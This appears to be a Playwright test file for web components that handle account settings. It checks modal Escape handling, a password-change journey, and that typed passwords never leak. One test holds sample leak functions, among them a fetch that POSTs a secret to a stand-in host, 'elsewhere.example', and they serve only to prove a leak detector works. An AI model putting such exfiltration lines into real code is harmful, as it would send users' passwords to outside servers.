import assert from 'node:assert/strict';
import {existsSync, readdirSync, readFileSync} from 'node:fs';
import {mkdtemp, rm} from 'node:fs/promises';
import {createServer, type Server} from 'node:http';
import type {AddressInfo} from 'node:net';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {after, before, describe, it} from 'node:test';
import {fileURLToPath, pathToFileURL} from 'node:url';

import {build} from 'esbuild';
import {type Browser, chromium, type Page} from 'playwright-core';

import {type Host, page} from './host.js';
import {watchSecrets} from './secrets-guard.js';

const root = fileURLToPath(new URL('../..', import.meta.url));
const pages = fileURLToPath(new URL('pages', import.meta.url));
const load = async <T>(path: string) => (await import(pathToFileURL(path).href)) as T;
const hosts = await Promise.all(
  readdirSync(pages).map(async (file) => {
    const {host, variants = []} = await load<{host?: Host; variants?: readonly Host[]}>(join(pages, file));
    return host ? [host] : variants;
  }),
).then((found) => found.flat());

const typed = ['Kanarienvogel-7f3a', 'Nachtigall-91c2', 'Nachtigall-91c2'];

/** Bundles a page's own script. */
async function bundled(app: string): Promise<string> {
  const {outputFiles} = await build({
    stdin: {contents: app, resolveDir: root, loader: 'js'},
    bundle: true,
    write: false,
    format: 'iife',
    external: ['/cdn/*'],
    define: {
      'process.env.NODE_ENV': '"production"',
      __VUE_OPTIONS_API__: 'true',
      __VUE_PROD_DEVTOOLS__: 'false',
      __VUE_PROD_HYDRATION_MISMATCH_DETAILS__: 'false',
    },
    logLevel: 'error',
  });
  return outputFiles[0]?.text ?? '';
}

describe('pages as they are', {timeout: 600_000}, () => {
  let folder = '';
  let browser: Browser | undefined;
  before(async () => {
    process.chdir(root);
    folder = await mkdtemp(join(tmpdir(), 'account-elements-hosts-'));
    const {buildCdn} = await load<{buildCdn(folder: string, version?: string): Promise<unknown>}>(
      join(root, 'scripts/support/cdn.mjs'),
    );
    await buildCdn(join(folder, 'cdn'));
    await buildCdn(join(folder, 'second'), '0.0.9');
    const {chromiumOptions} = await load<{chromiumOptions(): Promise<object>}>(
      join(root, 'test/support/browsers.js'),
    );
    browser = await chromium.launch(await chromiumOptions());
  });
  after(async () => {
    await browser?.close();
    if (folder) await rm(folder, {recursive: true, force: true});
  });

  for (const [what, head, body, shown] of [
    [
      'a modal of Bootstrap',
      '<script defer src="/lib/bootstrap.js"></script>',
      '<div class="modal" tabindex="-1" id="x"><div class="modal-dialog"><div class="modal-body"><device-list demo></device-list></div></div></div><style>.modal:not(.show) {display: none}</style><script>addEventListener("load", () => new bootstrap.Modal("#x").show())</script>',
      '.modal.show',
    ],
    [
      'a dialog of the page',
      '',
      '<dialog id="x"><device-list demo></device-list></dialog><script>x.showModal()</script>',
      'dialog[open]',
    ],
    [
      'a dialog that a script closes at Escape, as jQuery UI’s',
      '',
      '<div id="x" role="dialog" class="open" tabindex="-1"><device-list demo></device-list></div><script>document.addEventListener("keydown", ({key}) => key === "Escape" && x.classList.remove("open"))</script>',
      '.open',
    ],
  ] as const) {
    it(`Escape in ${what} closes our question, and at the next press theirs`, async () => {
      const markup = page(`${head}<script type="module" src="/cdn/account-elements.js"></script>`, body);
      const server = createServer(({url = ''}, response) => {
        const file = url.startsWith('/lib/')
          ? join(root, 'node_modules/bootstrap/dist/js/bootstrap.bundle.js')
          : join(folder, url);
        const isPage = url === '/page';
        const found = isPage ? markup : existsSync(file) ? readFileSync(file) : undefined;
        response.writeHead(found === undefined ? 404 : 200, {
          'Content-Type': isPage ? 'text/html' : 'text/javascript',
        });
        response.end(found);
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const opened = await browser!.newPage({locale: 'en-US'});
      try {
        await opened.goto(`http://localhost:${(server.address() as AddressInfo).port}/page`);
        await opened
          .getByRole('button', {name: /^Disable device/})
          .last()
          .click();
        const question = opened.getByRole('alertdialog');
        await question.waitFor();
        await opened.keyboard.press('Escape');
        await question.waitFor({state: 'detached'});
        assert.equal(await opened.locator(`#x${shown.replace(/^dialog/, '')}`).count(), 1);
        await opened.keyboard.press('Escape');
        await opened.locator(`#x${shown.replace(/^dialog/, '')}`).waitFor({state: 'detached'});
      } finally {
        await opened.close();
        server.close();
        server.closeAllConnections();
      }
    });
  }

  it('a secret that gets out is seen, wherever', async () => {
    const context = await browser!.newContext();
    const [secret = ''] = typed;
    const seen = await watchSecrets(context, [secret]);
    await context.route('**/*', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: page('', `<form><input name="password" value="${secret}"></form>`),
      }),
    );
    const leaks: readonly (readonly [string, (text: string) => unknown])[] = [
      ['a request', () => document.forms[0]?.submit()],
      ['the history', (text) => history.pushState({text}, '')],
      ['the history', (text) => history.replaceState(null, '', `?q=${encodeURIComponent(text)}`)],
      ['storage', (text) => sessionStorage.setItem('draft', text)],
      [
        'a body',
        (text) => fetch('https://elsewhere.example/log', {method: 'POST', body: text, mode: 'no-cors'}),
      ],
      ['a header', (text) => fetch('/log', {headers: {'X-Log': text}})],
    ];
    for (const [where, leak] of leaks) {
      // A page for each: one that a leak leads away would disturb the next. Closed while it is on its way, it may never be.
      const opened = await context.newPage();
      await opened.goto('http://guarded.example/');
      seen.length = 0;
      await opened.evaluate(leak, secret).catch(() => undefined);
      const isSeen = () => seen.some((each) => each.startsWith(where));
      for (let round = 0; round < 100 && !isSeen(); round++) await new Promise((go) => setTimeout(go, 20));
      assert.ok(isSeen(), `${where}: ${seen.join()}`);
    }
    await context.close();
  });

  for (const host of hosts) {
    it(`${host.name}: the account is seen and changed, and what is typed goes nowhere`, async () => {
      const app = host.app && (await bundled(host.app));
      const library = host.classic
        ? '<script src="/cdn/account-elements.iife.js"></script>'
        : '<script type="module" src="/cdn/account-elements.js"></script>';
      const [start = ''] = Object.keys(host.pages);
      const asked: string[] = [];
      const server: Server = createServer((request, response) => {
        const {pathname} = new URL(request.url ?? '/', 'http://localhost');
        asked.push(`${request.method} ${request.url} ${request.headers.referer ?? ''}`);
        const [, place = '', ...rest] = pathname.split('/');
        const markup =
          host.pages[pathname] ?? (host.scope && pathname.startsWith(host.scope) && host.pages[start]);
        const library_ = place === 'lib' && host.libraries?.[rest.join('/')];
        const file =
          place === 'cdn' || place === 'second'
            ? join(folder, place, ...rest)
            : library_
              ? join(root, 'node_modules', library_)
              : '';
        const script =
          pathname === '/app.js' ? app : file && existsSync(file) ? readFileSync(file) : undefined;
        const found = markup ? markup.replaceAll('%library%', library) : script;
        const type = markup ? 'html' : pathname.endsWith('.css') ? 'css' : 'javascript';
        response.writeHead(found === undefined ? 404 : 200, {'Content-Type': `text/${type}`});
        response.end(found);
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const origin = `http://localhost:${(server.address() as AddressInfo).port}`;
      const context = await browser!.newContext({locale: 'en-US'});
      const backend = host.backend && origin + host.backend;
      const seen = await watchSecrets(context, typed, backend);
      const opened = await context.newPage();
      const faults: string[] = [];
      opened.on('pageerror', (error) => faults.push(error.message));
      opened.on('console', (message) => {
        const {url} = message.location();
        // A refusal of the backend is no fault of the page.
        const isExpected = url.endsWith('favicon.ico') || (backend && url.startsWith(backend));
        if (message.type() === 'error' && !isExpected) faults.push(message.text());
      });
      opened.on('dialog', (dialog) => void dialog.accept());
      try {
        await opened.goto(origin + start);
        await journey(opened, host);
        assert.deepEqual(seen, []);
        assert.deepEqual(faults, []);
        assert.ok(
          // Not even the user ID, which is in the form for password managers.
          !asked.some((each) => /^(GET|POST) \S*\?(.*&)?(username|currentPassword|q)=/.test(each)),
          asked.join('\n'),
        );
      } catch (error) {
        throw new Error(`${String((error as Error).stack)}\nAt ${opened.url()}\n${faults.join('\n')}`, {
          cause: error,
        });
      } finally {
        await context.close();
        server.close();
        server.closeAllConnections();
      }
    });
  }
});

/** What a person does on each of the pages. */
async function journey(opened: Page, host: Host) {
  const account = opened.locator('account-page');
  const form = account.locator('change-password-form');
  const away =
    host.away ??
    (async () => {
      await opened.getByRole('link', {name: 'News'}).click();
      await opened.getByText('Today').waitFor();
    });
  const back = host.back ?? (() => opened.goBack());

  await account.locator('profile-card').getByText('Ada Lovelace').first().waitFor();
  await host.ready?.(opened);
  await account.locator('profile-card').getByText('Ada Lovelace').first().waitFor();

  // A device, with its question.
  const devices = account.locator('device-list');
  const before = await devices.getByRole('listitem').count();
  await devices
    .getByRole('button', {name: /^Disable device/})
    .last()
    .click();
  await devices.locator('dialog[open] .danger').click();
  await devices.locator('dialog').waitFor({state: 'detached'});
  await devices
    .getByRole('listitem')
    .nth(before - 1)
    .waitFor({state: 'detached'});

  // Something is typed, the page is left, and come back to.
  await account.getByRole('link', {name: 'Change password'}).click();
  for (const [index, name] of ['currentPassword', 'newPassword', 'confirmPassword'].entries())
    await form.locator(`input[name=${name}]`).fill(typed[index] ?? '');
  await away(opened);
  await back(opened);
  const entry = account.locator('#entry-password');
  await Promise.any([form.locator('input[name=newPassword]').waitFor(), entry.waitFor()]);
  if (await entry.isVisible()) await entry.click();
  await form.locator('input[name=newPassword]').waitFor();
  assert.equal(await form.locator('input[type=password]').count(), 3);
  assert.equal(await form.getByRole('button', {name: 'Submit'}).count(), 1);

  // The form is alive: what is wrong with what was typed is said, and then what is missing.
  for (const [index, name] of ['currentPassword', 'newPassword', 'confirmPassword'].entries())
    await form.locator(`input[name=${name}]`).fill(typed[index] ?? '');
  await form.locator('input[name=confirmPassword]').press('Enter');
  await form.locator('[aria-invalid=true]').first().waitFor();
  for (const name of ['currentPassword', 'newPassword', 'confirmPassword'])
    await form.locator(`input[name=${name}]`).fill('');
  await form.getByRole('button', {name: 'Submit'}).click();
  await form.locator('[aria-invalid=true]').first().waitFor();

  // And an organization is left.
  await account.locator('.back').click();
  const organizations = account.locator('org-list');
  await organizations
    .getByRole('button', {name: /^Leave/})
    .first()
    .click();
  await organizations.locator('dialog[open] .danger').click();
  await organizations.locator('[role=status]', {hasText: 'left'}).waitFor({state: 'attached'});
}
